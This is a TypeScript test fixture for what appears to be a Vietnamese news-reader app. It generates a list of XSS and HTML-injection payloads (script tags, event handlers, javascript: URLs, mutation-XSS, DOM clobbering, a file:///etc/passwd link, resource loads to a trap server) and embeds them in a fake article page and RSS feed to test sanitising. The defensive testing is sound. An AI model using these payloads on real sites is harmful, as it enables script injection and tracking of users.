/**
 * Attacks on a reader, written by us after what has broken into others (see docs/decisions/windows-and-security.md). Each
 * would set `window.broken`, or ask `trap` (the address of a server that counts), if anything of it worked.
 */
export function attacks(trap: string): readonly string[] {
  const run = "window.top.broken=1;window.broken=1;document.title='broken'";
  return [
    `<script>${run}</script>`,
    `<script src="${trap}/script.js"></script>`,
    `<img src="x" onerror="${run}">`,
    `<img src="${trap}/pixel.gif" width="1" height="1">`,
    `<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text y="20">bấm</text></a></svg>`,
    `<svg><image href="${trap}/svg-image.png"/><use href="${trap}/use.svg#a"/><style>@import '${trap}/svg.css';</style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<math href="javascript:${run}">bấm</math>`,
    `<iframe src="${trap}/frame.html"></iframe>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<object data="${trap}/object.swf"></object><embed src="${trap}/embed.swf">`,
    `<link rel="stylesheet" href="${trap}/style.css"><link rel="prefetch" href="${trap}/prefetch"><link rel="dns-prefetch" href="${trap}">`,
    `<style>body{background:url(${trap}/css.png)} @font-face{font-family:x;src:url(${trap}/font.woff2)} p{font-family:x}</style>`,
    `<p style="background:url(${trap}/inline.png);position:fixed;inset:0;z-index:9999">che</p>`,
    `<base href="${trap}/">`,
    `<meta http-equiv="refresh" content="0;url=${trap}/refresh">`,
    `<form action="${trap}/form" id="f"><input name="a" autofocus onfocus="${run}"><button formaction="javascript:${run}">gửi</button></form>`,
    `<a href="javascript:${run}" id="js">bấm vào đây</a>`,
    `<a href="jav&#x09;ascript:${run}">bấm vào đây</a> <a href="&#1;javascript:${run}">bấm</a> <a href="data:text/html,<script>${run}</script>">bấm</a>`,
    `<a href="file:///etc/passwd">tệp</a> <a href="docbao://save?url=${trap}/deep">lưu</a> <a href="docbao-app://ui/index.html">cửa sổ</a>`,
    `<a href="${trap}/ping-target" ping="${trap}/ping" id="ping">liên kết</a>`,
    `<video autoplay src="${trap}/video.mp4" poster="${trap}/poster.png"></video><audio autoplay src="${trap}/audio.mp3"></audio>`,
    `<video><source onerror="${run}" src="${trap}/source.mp4"><track src="${trap}/track.vtt"></video>`,
    `<details open ontoggle="${run}">x</details><marquee onstart="${run}">x</marquee>`,
    `<body onload="${run}"><div onmouseover="${run}" style="width:100%;height:100px">rê chuột</div>`,
    `<template><script>${run}</script></template><noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<textarea></textarea><img src=x onerror=${run}></textarea><title><img src=x onerror=${run}></title>`,
    `<xmp><img src=x onerror=${run}></xmp><plaintext><img src=x onerror=${run}>`.replace('<plaintext>', ''),
    `<img srcset="${trap}/srcset-1x.png 1x, ${trap}/srcset-2x.png 2x" alt='"><script>${run}</script>'>`,
    `<picture><source srcset="${trap}/source.webp"><img alt="x"></picture>`,
    `<p id="docbao-article" class="docbao-title" name="getElementById">giả mạo</p><form name="body"><input name="parentNode"></form>`,
    `<img name="cookie"><img name="documentElement"><a id="location" href="x">x</a>`,
    `<table background="${trap}/table.png"><tr><td background="${trap}/cell.png">ô</td></tr></table>`,
    `<isindex prompt="x" action="${trap}/isindex"><applet code="${trap}/a.class"></applet><frameset><frame src="${trap}/f"></frameset>`,
    `<div>${'<div>'.repeat(600)}sâu${'</div>'.repeat(600)}</div>`,
  ];
}

/** An article's page with every attack between its paragraphs, so that extraction takes them for content. */
export function hostilePage(trap: string): string {
  const text = (number: number): string =>
    `<p>Đoạn ${number} của bài báo thử: nước sông dâng cao sau ba ngày mưa, người dân hai bên bờ đã chuyển đồ đạc lên nơi cao ráo, ` +
    'các đội cứu hộ trực ở đầu cầu và trường học mở cửa đón những gia đình phải rời nhà trong đêm.</p>';
  const body = attacks(trap).map((attack, index) => `${text(index + 1)}\n${attack}`);
  return `<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>Nước sông dâng cao</title>
<meta property="og:title" content="Nước sông dâng cao"><script>window.broken=1</script></head>
<body onload="window.broken=1"><article><h1>Nước sông dâng cao</h1>${body.join('\n')}</article></body></html>`;
}

/** A feed whose own text carries the attacks: one entry with everything, and one with a hostile title. */
export function hostileFeed(origin: string, trap: string): string {
  const content = attacks(trap).join('<p>Một đoạn văn ở giữa để bài có chữ mà đọc, dài vừa đủ cho bộ lọc.</p>').replaceAll(']]>', '');
  return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>&lt;img src=x onerror=window.broken=1&gt;Báo xấu</title>
<link>${origin}/</link><description>x</description>
<item><title>&lt;script&gt;window.broken=1&lt;/script&gt;Tiêu đề xấu</title><link>javascript:window.broken=1</link><guid>1</guid>
<content:encoded><![CDATA[${content}]]></content:encoded></item>
<item><title>Toàn văn trong nguồn</title><link>${origin}/hostile-full.html</link><guid>2</guid>
<content:encoded><![CDATA[${content}]]></content:encoded></item>
<item><title>Nước sông dâng cao</title><link>${origin}/hostile.html</link><guid>3</guid><description>tóm tắt</description></item>
</channel></rss>`;
}
